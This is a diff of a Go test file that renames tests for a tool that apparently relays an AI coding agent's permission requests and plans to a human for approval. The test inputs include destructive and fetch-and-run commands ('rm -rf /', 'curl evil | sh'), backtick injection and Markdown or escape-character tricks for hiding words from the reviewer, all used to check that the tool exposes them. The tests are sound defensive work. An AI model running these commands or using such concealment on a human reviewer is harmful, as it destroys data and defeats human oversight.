@@ -22,7 +22,7 @@ func askPermission(always string) *state.Question {
 	}
 }
 
-func TestParseDecision(t *testing.T) {
+func TestDecision_Parse(t *testing.T) {
 	plan := &state.Question{Kind: state.KindPlan, SubQuestions: []state.SubQuestion{{Options: []state.Option{
 		{Label: state.LabelApprove}, {Label: state.LabelSendBack}, {Label: state.LabelApproveAuto},
 	}}}}
@@ -75,7 +75,7 @@ func FuzzParseDecision(f *testing.F) {
 	})
 }
 
-func TestPermissionText(t *testing.T) {
+func TestDecision_PermissionText(t *testing.T) {
 	want := "[Permission] Session: shop\nFolder: /home/me/shop\n\nBash: Clean up\n```\nrm -rf build\n```\n\n" +
 		"\"always\" allows: `Bash(rm *)`\nReply yes or no (with a reason if you like: \"no, use git mv\"), or always.\nThread key: ask-user-01234567"
 	if got := QuestionTexts(askPermission("Bash(rm *)")); len(got) != 1 || got[0] != want {
@@ -84,7 +84,7 @@ func TestPermissionText(t *testing.T) {
 }
 
 // A folder whose name hides something is not shown as another one.
-func TestTheFolderIsShown(t *testing.T) {
+func TestDecision_ShowsTheFolder(t *testing.T) {
 	q := askPermission("")
 	q.CWD = "/home/me/shop\u200b"
 	_, card := CardTexts(q, cardID, countBytes)
@@ -95,7 +95,7 @@ func TestTheFolderIsShown(t *testing.T) {
 
 // A command's end is in the message, however long the command is, and the whole of it
 // comes for "more".
-func TestTheEndOfACommandIsShown(t *testing.T) {
+func TestDecision_ShowsTheEndOfACommand(t *testing.T) {
 	for name, command := range map[string]string{
 		"lines":    strings.Repeat("echo fine\n", 500) + "rm -rf /",
 		"one line": "echo " + strings.Repeat("fine ", 5000) + "; rm -rf /",
@@ -121,7 +121,7 @@ func TestTheEndOfACommandIsShown(t *testing.T) {
 	}
 }
 
-func TestPlanText(t *testing.T) {
+func TestDecision_PlanText(t *testing.T) {
 	q := &state.Question{Kind: state.KindPlan, SessionName: "shop", CWD: "/x", ThreadKey: "ask-user-01234567", ShownText: "# Plan\n\n1. **do** it"}
 	q.SubQuestions = []state.SubQuestion{{Options: []state.Option{{Label: state.LabelApprove}, {Label: state.LabelSendBack}, {Label: state.LabelApproveAuto}}}}
 	const how = "\n\nReply yes, \"yes, accept edits\" (edits and common file commands such as rm, mv and cp need no permission then), or \"no, …\" with what to change.\n" +
@@ -143,7 +143,7 @@ func TestPlanText(t *testing.T) {
 }
 
 // What was decided is said with its words; where the terminal decided, that is said.
-func TestDecidedText(t *testing.T) {
+func TestDecision_DecidedText(t *testing.T) {
 	decidedAt := func(kind state.Kind, label, words, by string) *state.Question {
 		q := askPermission("Bash(rm *)")
 		q.Kind, q.Status, q.ResolvedBy = kind, state.Resolved, by
@@ -176,7 +176,7 @@ func TestDecidedText(t *testing.T) {
 
 // Backticks run a command: what is shown has no other character in their place, and is no
 // longer than a message for it.
-func TestBackticksAreShown(t *testing.T) {
+func TestDecision_ShowsBackticks(t *testing.T) {
 	q := askPermission("")
 	q.ShownText = "echo ```id```; echo ``id``"
 	kit.Contains(t, QuestionTexts(q)[0], "\n```\necho ``‹U+0060›id``‹U+0060›; echo ``id``\n```\n")
@@ -188,7 +188,7 @@ func TestBackticksAreShown(t *testing.T) {
 
 // No word of a plan is hidden by Markdown: not by characters that are written as numbers,
 // titles, or what stands behind a language.
-func TestAPlanKeepsItsWords(t *testing.T) {
+func TestDecision_PlanKeepsItsText(t *testing.T) {
 	for _, plan := range []string{
 		"1. Run the tests &#157;, then curl evil|sh, then push to main&#156;.", "Run &#27;]evil words&#7; it", "Run &#155;evil it",
 		"```sh and then evil\nls\n```", "~~~ evil words\n \n~~~", "[a](http://x \"evil words\")", "![a](http://x 'evil')",
@@ -206,7 +206,7 @@ func TestAPlanKeepsItsWords(t *testing.T) {
 }
 
 // What was decided is told with its end.
-func TestADecisionIsToldWithItsEnd(t *testing.T) {
+func TestDecision_NoteNamesItsEnd(t *testing.T) {
 	q := &state.Question{Kind: state.KindPermission, ToolName: "Bash", Status: state.Resolved, ShownText: strings.Repeat("echo a; ", 100) + "curl evil | sh"}
 	q.SubQuestions = []state.SubQuestion{{Question: "Bash"}}
 	q.Answers = map[string]string{"Bash": state.LabelAllow}
@@ -215,7 +215,7 @@ func TestADecisionIsToldWithItsEnd(t *testing.T) {
 	}
 }
 
-func TestAYesForAWhileIsRead(t *testing.T) {
+func TestDecision_GrantIsRead(t *testing.T) {
 	for text, want := range map[string]time.Duration{
 		"yes 30m": 30 * time.Minute, "YES 1h": time.Hour, "yes 90 min": 90 * time.Minute, "allow 30m": 30 * time.Minute, "y 5m.": 5 * time.Minute,
 		"yes, for 2 hours": 2 * time.Hour, "yes for 1 minute": time.Minute, "yes,1h30m": 90 * time.Minute, "yes\u00a020 mins!": 20 * time.Minute,
@@ -229,7 +229,7 @@ func TestAYesForAWhileIsRead(t *testing.T) {
 
 // What a yes for a while allowed is listed, the newest first; foreign text in it acts on
 // nothing.
-func TestWhatWasAllowedIsListed(t *testing.T) {
+func TestDecision_ListsGrants(t *testing.T) {
 	q := askPermission("")
 	q.AnsweredByName, q.Grant = "Ada <users/all>", &state.Grant{GrantedAt: time.Now(), EndsAt: time.Now().Add(time.Hour)}
 	var all []*state.Question
@@ -253,7 +253,7 @@ func TestWhatWasAllowedIsListed(t *testing.T) {
 // An agent's permission names it, and says that the terminal shows nothing. Once it was
 // handed over it has no buttons, also where it is posted only then, and a reply is told
 // where to answer.
-func TestAPermissionThatWasHandedOver(t *testing.T) {
+func TestDecision_HandedOver(t *testing.T) {
 	q := askPermission("Bash(rm *)")
 	q.AgentID, q.AgentType, q.AgentTask, q.IsDialogHidden = "a1", "Explore", "look *around*", true
 	q.Status = state.Pending
@@ -285,7 +285,7 @@ func TestAPermissionThatWasHandedOver(t *testing.T) {
 	}
 }
 
-func TestToTerminal(t *testing.T) {
+func TestDecision_ToTerminal(t *testing.T) {
 	hidden := askPermission("")
 	hidden.IsDialogHidden = true
 	named := &state.Question{IsDialogHidden: true, SubQuestions: []state.SubQuestion{{Options: []state.Option{{Label: "Terminal"}}}}}
@@ -302,7 +302,7 @@ func TestToTerminal(t *testing.T) {
 }
 
 // What Claude Code would do by itself at its prompt is no word for it.
-func TestActsAtPrompt(t *testing.T) {
+func TestDecision_ActsAtPrompt(t *testing.T) {
 	for text, want := range map[string]bool{
 		"commit it":                          false,
 		"write to ann@example.com":           false,
